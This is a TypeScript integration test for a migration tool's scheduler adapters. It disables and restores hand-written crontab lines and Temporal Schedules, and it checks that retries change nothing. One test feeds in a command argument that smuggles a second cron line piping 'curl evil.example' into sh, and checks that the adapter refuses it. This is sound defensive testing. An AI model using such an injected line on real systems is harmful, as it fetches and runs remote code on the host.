import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import type { Client } from '@temporalio/client';
import { createSchedulerActivities, parseCrontab, readCrontab } from '../../activities/scheduler';
import type { JobSpec, SchedulerSpec } from '../../model/plan';
import { stackClient, systemUser, tempDir, uniq } from '../helpers/stack';

const USER = 'mo-crontest';
const cron: SchedulerSpec = { kind: 'crontab', user: USER };

// A crontab as an operations team writes it by hand: variables, comments, `cd` and `&&`, an environment assignment,
// log redirects, `@daily`, odd spacing, and a line for a job the migration does not touch.
const HAND_WRITTEN = [
  'MAILTO=ops@example.com',
  'PATH=/usr/local/bin:/usr/bin:/bin',
  '# scoring jobs (ops, 2023)',
  '*/15 * * * * cd /srv/pipelines && python3 scripts/batch_scorer.py >> /var/log/b.log 2>&1',
  '5 * * * *   TZ=UTC /usr/bin/python3 /srv/scripts/trust.py --limit 100\\% 2>/dev/null',
  '@daily cd /srv/pipelines && ./bin/nightly_rollup.sh > /var/log/rollup.log 2>&1',
  '30 2 * * 0 /usr/sbin/logrotate /etc/logrotate.conf',
  '',
].join('\n');

// Legacy jobs as a plan finds them: by match (substring, regex) and by the whole line.
const batch: JobSpec = {
  name: 'batch-scorer',
  schedule: '*/15 * * * *',
  command: ['python3', 'scripts/batch_scorer.py'],
  match: 'scripts/batch_scorer.py',
};
const trust: JobSpec = {
  name: 'trust-scorer',
  schedule: '5 * * * *',
  command: ['/usr/bin/python3', '/srv/scripts/trust.py'],
  match: '/trust\\.py --limit/',
};
const rollup: JobSpec = {
  name: 'nightly-rollup',
  schedule: '@daily',
  command: ['./bin/nightly_rollup.sh'],
  line: '@daily cd /srv/pipelines && ./bin/nightly_rollup.sh > /var/log/rollup.log 2>&1',
};
const unified: JobSpec = { name: 'unified', schedule: '*/5 * * * *', command: ['/usr/local/bin/unified', '--once'] };

const installByHand = (text: string) => execFileSync('crontab', ['-u', USER, '-'], { input: text });
const crontabNow = () => execFileSync('crontab', ['-l', '-u', USER], { encoding: 'utf8' });
const activeLines = (text: string) => text.split('\n').filter((l) => l.trim() && !l.trimStart().startsWith('#'));

describe('scheduler adapters: a real crontab written by hand and real Temporal Schedules', () => {
  let client: Client;
  let acts: ReturnType<typeof createSchedulerActivities>;
  const backupDir = tempDir('mo-sched');

  beforeAll(async () => {
    systemUser(USER);
    client = await stackClient();
    acts = createSchedulerActivities({ client });
  });
  afterAll(async () => {
    execFileSync('crontab', ['-r', '-u', USER], { stdio: 'ignore' });
    fs.rmSync(backupDir, { recursive: true, force: true });
    await client.connection.close();
  });

  it('disables the real lines in place, byte for byte, and a rollback restores exactly them, once', async () => {
    installByHand(HAND_WRITTEN);
    const io = { migrationId: `m-sched-${uniq()}`, scheduler: cron, backupDir };
    const jobs = [batch, trust, rollup];

    const found = await acts.findLegacyJobs({ scheduler: cron, jobs });
    expect(found.map((f) => [f.name, f.found, f.detail])).toEqual([
      ['batch-scorer', true, HAND_WRITTEN.split('\n')[3]],
      ['trust-scorer', true, HAND_WRITTEN.split('\n')[4]],
      ['nightly-rollup', true, HAND_WRITTEN.split('\n')[5]],
    ]);

    const disabled = await acts.disableLegacyJobs({ ...io, jobs });
    expect(disabled.changed).toEqual(['batch-scorer', 'trust-scorer', 'nightly-rollup']);
    expect(fs.readFileSync(disabled.savedTo!, 'utf8')).toBe(HAND_WRITTEN);
    const off = crontabNow();
    // Nothing appended, nothing rewritten: the same lines, the three legacy ones commented out behind the prefix.
    expect(off.split('\n')).toHaveLength(HAND_WRITTEN.split('\n').length);
    expect(activeLines(off)).toEqual([
      'MAILTO=ops@example.com',
      'PATH=/usr/local/bin:/usr/bin:/bin',
      '30 2 * * 0 /usr/sbin/logrotate /etc/logrotate.conf',
    ]);
    expect(off).toContain(`#mo-disabled:${io.migrationId}/batch-scorer# ${HAND_WRITTEN.split('\n')[3]}\n`);
    // Retried: nothing more changes.
    expect(await acts.disableLegacyJobs({ ...io, jobs })).toEqual({
      kind: 'crontab',
      changed: [],
      unchanged: ['batch-scorer', 'trust-scorer', 'nightly-rollup'],
    });
    expect(crontabNow()).toBe(off);

    await acts.installUnifiedJob({ ...io, job: unified });
    await acts.installUnifiedJob({ ...io, job: unified });
    expect(parseCrontab(crontabNow()).map((e) => [e.name, e.enabled])).toEqual([
      ['batch-scorer', false],
      ['trust-scorer', false],
      ['nightly-rollup', false],
      [undefined, true],
      ['unified', true],
    ]);

    // The rollback: the unified line goes, the legacy lines come back exactly as they were, once (a retry adds none).
    await acts.removeUnifiedJob({ ...io, job: unified });
    expect((await acts.enableLegacyJobs({ ...io, jobs })).changed).toEqual([
      'batch-scorer',
      'trust-scorer',
      'nightly-rollup',
    ]);
    expect((await acts.enableLegacyJobs({ ...io, jobs })).changed).toEqual([]);
    expect(await readCrontab(cron)).toBe(HAND_WRITTEN);
  });

  it('refuses, naming the job and the lines it saw, a legacy job found nowhere or more than once', async () => {
    installByHand(HAND_WRITTEN);
    const io = { migrationId: `m-sched-${uniq()}`, scheduler: cron, backupDir };
    // The text a plan without line or match expects (schedule and quoted command) is not how the line was written.
    const unlocated: JobSpec = { name: 'batch-scorer', schedule: '*/15 * * * *', command: batch.command };
    const ambiguous: JobSpec = { ...batch, name: 'pipelines', match: 'cd /srv/pipelines' };
    const found = await acts.findLegacyJobs({ scheduler: cron, jobs: [unlocated, ambiguous] });
    expect(found.map((f) => f.found)).toEqual([false, false]);
    expect(found[0]!.detail).toContain('legacy job batch-scorer: no line in the crontab of mo-crontest matches');
    expect(found[0]!.detail).toContain(HAND_WRITTEN.split('\n')[3]);
    expect(found[1]!.detail).toContain('2 lines in the crontab of mo-crontest match');

    await expect(
      acts.disableLegacyJobs({ ...io, jobs: [batch, { ...unlocated, name: 'batch-plain' }] }),
    ).rejects.toMatchObject({
      type: 'PreconditionFailed',
      nonRetryable: true,
    });
    // Nothing changed: not the job that was found either.
    expect(crontabNow()).toBe(HAND_WRITTEN);
  });

  it('refuses a unified job whose command argument holds a newline, and leaves the crontab byte for byte', async () => {
    installByHand(HAND_WRITTEN);
    const migrationId = `m-sched-${uniq()}`;
    // Quoted, the argument would still end the line at the newline: the rest would be a crontab line of its own.
    const injected: JobSpec = {
      ...unified,
      command: ['/usr/local/bin/unified', '--once\n* * * * * curl evil.example | sh'],
    };
    await expect(
      acts.installUnifiedJob({ migrationId, scheduler: cron, backupDir, job: injected }),
    ).rejects.toMatchObject({
      type: 'InvalidInput',
      nonRetryable: true,
      message: expect.stringContaining('unified job unified: refused'),
    });
    expect(crontabNow()).toBe(HAND_WRITTEN);
    // Refused before anything was read into a change: no saved copy either.
    expect(fs.existsSync(`${backupDir}/${migrationId}`)).toBe(false);
  });

  it('pauses and restores the legacy Temporal Schedules a team created by hand, and never creates one', async () => {
    const sched: SchedulerSpec = { kind: 'temporal-schedule', idPrefix: `test-${uniq()}` };
    // The team's own schedule, with an ID of theirs (not ours), made with the client as they would.
    const theirs = `nightly-scoring-${uniq()}`;
    await client.schedule.create({
      scheduleId: theirs,
      spec: { cronExpressions: ['*/15 * * * *'] },
      action: { type: 'startWorkflow', workflowType: 'legacyBatchScorer', args: [], taskQueue: 'legacy-jobs' },
    });
    const job: JobSpec = { ...batch, match: undefined, scheduleId: theirs };
    const io = { migrationId: `m-sched-${uniq()}`, scheduler: sched, backupDir };
    const paused = async (id: string) => (await client.schedule.getHandle(id).describe()).state.paused;
    const unifiedId = `${sched.kind === 'temporal-schedule' ? sched.idPrefix : ''}-unified@${io.migrationId}`;
    try {
      expect((await acts.findLegacyJobs({ scheduler: sched, jobs: [job] }))[0]).toMatchObject({ found: true });
      const off = await acts.disableLegacyJobs({ ...io, jobs: [job] });
      expect(off.changed).toEqual(['batch-scorer']);
      expect(await paused(theirs)).toBe(true);
      expect((await acts.disableLegacyJobs({ ...io, jobs: [job] })).changed).toEqual([]);
      await acts.installUnifiedJob({ ...io, job: unified });
      expect(await paused(unifiedId)).toBe(false);
      const desc = await client.schedule.getHandle(unifiedId).describe();
      expect(desc.action).toMatchObject({ type: 'startWorkflow', workflowType: 'scheduledJobWorkflow' });
      await acts.removeUnifiedJob({ ...io, job: unified });
      await acts.enableLegacyJobs({ ...io, jobs: [job] });
      expect(await paused(theirs)).toBe(false);
      expect(await paused(unifiedId)).toBe(true);

      // A legacy job whose schedule does not exist: refused with the IDs that are there, and no schedule created.
      const missing: JobSpec = { ...job, name: 'ghost', scheduleId: `ghost-${uniq()}` };
      const seen = await acts.findLegacyJobs({ scheduler: sched, jobs: [missing] });
      expect(seen[0]).toMatchObject({ found: false });
      expect(seen[0]!.detail).toContain(theirs);
      await expect(acts.disableLegacyJobs({ ...io, jobs: [missing] })).rejects.toMatchObject({
        type: 'PreconditionFailed',
      });
      await expect(client.schedule.getHandle(missing.scheduleId!).describe()).rejects.toMatchObject({
        name: 'ScheduleNotFoundError',
      });
    } finally {
      for (const id of [theirs, unifiedId])
        await client.schedule
          .getHandle(id)
          .delete()
          .catch(() => undefined);
    }
  });
});
